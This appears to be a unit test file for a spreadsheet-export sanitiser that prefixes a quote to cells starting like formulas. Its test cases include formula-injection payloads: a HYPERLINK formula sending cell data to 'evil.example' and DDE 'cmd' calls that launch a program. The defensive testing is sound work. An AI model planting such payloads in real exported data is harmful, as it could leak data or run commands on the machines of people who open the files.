// Unit tests for keeping exported text from running as a spreadsheet formula.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, spreadsheetSafeRow } from "../../src/domain/spreadsheet.ts";

describe("neutraliseFormula", () => {
  it.each([
    [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
    ],
    ["+1+1", "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
  ])("prefixes %j", (cell, safe) => {
    expect(neutraliseFormula(cell)).toBe(safe);
  });

  it.each([
    "Gave a 10 EUR voucher",
    "Soitin asiakkaalle = hyvä mieli",
    "a-b",
    "'=already quoted",
    " =1+1",
    "",
    "10.00",
    "🎉 great",
  ])("keeps %j", (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  const cells = fc.oneof(
    fc.string(),
    fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'"), fc.string())
      .map(([start, rest]) => start + rest),
  );

  it("never leaves a cell that starts like a formula, and changes nothing but the added quote", () => {
    fc.assert(
      fc.property(cells, (cell) => {
        const safe = neutraliseFormula(cell);
        expect(safe.slice(0, 1).normalize("NFKC")).not.toMatch(/^[=+\-@\t\r]/u);
        expect(safe === cell || safe === `'${cell}`).toBe(true);
        expect(neutraliseFormula(safe)).toBe(safe);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("spreadsheetSafeRow", () => {
  it("neutralises text cells and leaves numbers alone", () => {
    expect(spreadsheetSafeRow({ text: "=1+1", why: "because", appreciations: -1, value: "" })).toEqual({
      text: "'=1+1",
      why: "because",
      appreciations: -1,
      value: "",
    });
  });
});
